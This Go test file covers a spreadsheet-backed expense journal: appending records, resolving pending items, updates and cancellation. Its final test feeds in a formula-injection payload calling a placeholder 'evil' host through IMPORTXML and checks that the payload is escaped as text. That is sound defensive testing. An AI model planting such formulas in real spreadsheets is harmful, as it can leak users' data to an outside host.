package ledger

import (
	"context"
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dvloznov/ledger-bot/internal/domain"
)

const journalSheet = "Journal"

func record(author, msg string, status domain.Status, category string, amount int64) domain.Record {
	needsReview := domain.NeedsReviewFalse
	if status == domain.StatusPending {
		needsReview = domain.NeedsReviewTrue
	}
	return domain.Record{
		CreatedAt:   "2026-10-18 10:00:00",
		OpDate:      "2026-10-18",
		Category:    category,
		Amount:      amount,
		CommentRaw:  "note",
		Source:      domain.SourceText,
		AuthorID:    author,
		MessageID:   msg,
		Status:      status,
		NeedsReview: needsReview,
		MonthKey:    "2026-10",
	}
}

func newJournal(t *testing.T, recs ...domain.Record) (*Journal, *MemoryStore) {
	t.Helper()
	store := NewMemoryStore()
	j := NewJournal(store, journalSheet)
	written, err := j.EnsureHeader(context.Background())
	require.NoError(t, err)
	require.True(t, written)
	for _, r := range recs {
		require.NoError(t, j.Append(context.Background(), r))
	}
	return j, store
}

func TestEnsureHeaderIsIdempotent(t *testing.T) {
	j, store := newJournal(t)

	written, err := j.EnsureHeader(context.Background())
	require.NoError(t, err)
	require.False(t, written)
	require.Len(t, store.Rows(journalSheet), 1)
	require.Equal(t, domain.Columns, store.Rows(journalSheet)[0])
}

func TestHasMessage(t *testing.T) {
	j, store := newJournal(t, record("1", "100", domain.StatusOK, "Groceries", 10))
	ctx := context.Background()

	ok, err := j.HasMessage(ctx, "100")
	require.NoError(t, err)
	require.True(t, ok)

	ok, err = j.HasMessage(ctx, "101")
	require.NoError(t, err)
	require.False(t, ok)

	// the header cell never matches
	ok, err = j.HasMessage(ctx, "message_id")
	require.NoError(t, err)
	require.False(t, ok)

	// a rendered number with grouping still matches
	require.NoError(t, store.WriteCells(ctx, []Cell{{Sheet: journalSheet, Column: "H", Row: 2, Value: "1 234"}}))
	ok, err = j.HasMessage(ctx, "1234")
	require.NoError(t, err)
	require.True(t, ok)
}

func TestFindLastPendingKeepsNewest(t *testing.T) {
	j, _ := newJournal(t,
		record("1", "100", domain.StatusPending, "", 10),
		record("2", "101", domain.StatusPending, "", 20),
		record("1", "102", domain.StatusPending, "", 30),
		record("1", "103", domain.StatusOK, "Groceries", 40),
	)

	entry, found, err := j.FindLastPending(context.Background(), "1")
	require.NoError(t, err)
	require.True(t, found)
	require.Equal(t, 4, entry.Row)
	require.Equal(t, int64(30), entry.Record.Amount)

	_, found, err = j.FindLastPending(context.Background(), "3")
	require.NoError(t, err)
	require.False(t, found)
}

func TestResolveWritesThreeFields(t *testing.T) {
	j, _ := newJournal(t, record("1", "100", domain.StatusPending, "", 500))
	ctx := context.Background()

	require.NoError(t, j.Resolve(ctx, 2, "Groceries"))

	got, err := j.Get(ctx, 2)
	require.NoError(t, err)
	require.Equal(t, "Groceries", got.Category)
	require.Equal(t, domain.StatusOK, got.Status)
	require.Equal(t, domain.NeedsReviewFalse, got.NeedsReview)
	require.Equal(t, int64(500), got.Amount)

	_, found, err := j.FindLastPending(ctx, "1")
	require.NoError(t, err)
	require.False(t, found)
}

func TestListRecentExcludesCanceledAndForeignRows(t *testing.T) {
	j, _ := newJournal(t,
		record("1", "100", domain.StatusOK, "A", 1),
		record("1", "101", domain.StatusCanceled, "B", 2),
		record("2", "102", domain.StatusOK, "C", 3),
		record("1", "103", domain.StatusPending, "", 4),
		record("1", "104", domain.StatusOK, "D", 5),
	)
	ctx := context.Background()

	entries, err := j.ListRecent(ctx, "1", 10)
	require.NoError(t, err)
	var rows []int
	for _, e := range entries {
		rows = append(rows, e.Row)
	}
	require.Equal(t, []int{6, 5, 2}, rows)

	entries, err = j.ListRecent(ctx, "1", 2)
	require.NoError(t, err)
	require.Len(t, entries, 2)
	require.Equal(t, 6, entries[0].Row)
}

func TestUpdateDateRewritesMonthKey(t *testing.T) {
	j, _ := newJournal(t, record("1", "100", domain.StatusOK, "A", 1))
	ctx := context.Background()

	require.NoError(t, j.UpdateDate(ctx, 2, "2026-09-30"))

	got, err := j.Get(ctx, 2)
	require.NoError(t, err)
	require.Equal(t, "2026-09-30", got.OpDate)
	require.Equal(t, got.OpDate[:7], got.MonthKey)
}

func TestUpdateAmountAndCategory(t *testing.T) {
	j, _ := newJournal(t, record("1", "100", domain.StatusOK, "A", 1))
	ctx := context.Background()

	require.NoError(t, j.UpdateAmount(ctx, 2, 4500))
	require.NoError(t, j.UpdateCategory(ctx, 2, "Transport"))

	got, err := j.Get(ctx, 2)
	require.NoError(t, err)
	require.Equal(t, int64(4500), got.Amount)
	require.Equal(t, "Transport", got.Category)
	require.Equal(t, domain.StatusOK, got.Status)
}

func TestCancelAndMutable(t *testing.T) {
	j, _ := newJournal(t, record("1", "100", domain.StatusOK, "A", 1))
	ctx := context.Background()

	_, err := j.Mutable(ctx, 2)
	require.NoError(t, err)

	require.NoError(t, j.Cancel(ctx, 2))

	got, err := j.Mutable(ctx, 2)
	require.True(t, errors.Is(err, ErrCanceled))
	require.Equal(t, domain.ErrorUserCanceled, got.Error)

	_, err = j.Get(ctx, 9)
	require.ErrorIs(t, err, ErrRowNotFound)
	_, err = j.Get(ctx, 1)
	require.ErrorIs(t, err, ErrRowNotFound)
}

type capturingStore struct {
	*MemoryStore
	appended [][]string
	written  []Cell
}

func (s *capturingStore) Append(ctx context.Context, sheet string, row []string) error {
	s.appended = append(s.appended, row)
	return s.MemoryStore.Append(ctx, sheet, row)
}

func (s *capturingStore) WriteCells(ctx context.Context, cells []Cell) error {
	s.written = append(s.written, cells...)
	return s.MemoryStore.WriteCells(ctx, cells)
}

func TestFormulaTextIsWrittenAsText(t *testing.T) {
	ctx := context.Background()
	store := &capturingStore{MemoryStore: NewMemoryStore()}
	j := NewJournal(store, journalSheet)
	_, err := j.EnsureHeader(ctx)
	require.NoError(t, err)

	rec := record("7", "42_1", domain.StatusPending, "", 500)
	rec.CommentRaw = `=IMPORTXML("http://evil","//a")`
	require.NoError(t, j.Append(ctx, rec))
	require.NoError(t, j.Resolve(ctx, 2, "=Groceries"))

	require.Len(t, store.appended, 2)
	assert.Equal(t, `'=IMPORTXML("http://evil","//a")`, store.appended[1][domain.ColCommentRaw])
	require.NotEmpty(t, store.written)
	assert.Equal(t, "'=Groceries", store.written[0].Value)

	got, err := j.Mutable(ctx, 2)
	require.NoError(t, err)
	assert.Equal(t, `=IMPORTXML("http://evil","//a")`, got.CommentRaw)
	assert.Equal(t, "=Groceries", got.Category)
}
